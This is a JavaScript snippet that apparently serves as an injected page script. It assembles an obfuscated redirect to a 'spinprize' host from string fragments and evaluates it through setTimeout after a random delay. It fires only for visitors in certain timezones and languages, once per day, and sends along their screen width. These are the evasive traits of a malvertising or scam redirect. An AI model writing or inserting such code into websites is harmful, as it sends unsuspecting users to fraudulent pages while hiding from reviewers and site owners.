var clock = setInterval(function () {
  if (!document.body || document.hidden) return;
  clearInterval(clock);
  var rows = [
    'location', '.href', '=', '"http', 's:/', '/spin', 'prize', '.exam', 'ple/?', 's="', '+screen.width'
  ];
  var lang = (navigator.languages || []).join();
  var zone = new Date().getTimezoneOffset() / -60;
  if (zone < 5 || zone > 9 || /zh|ja/.test(lang)) return;
  if (localStorage.getItem('spin') === new Date().toDateString()) return;
  localStorage.setItem('spin', new Date().toDateString());
  setTimeout(rows.join(''), 3000 + (Math.random() * 4000 | 0));
}, 250);
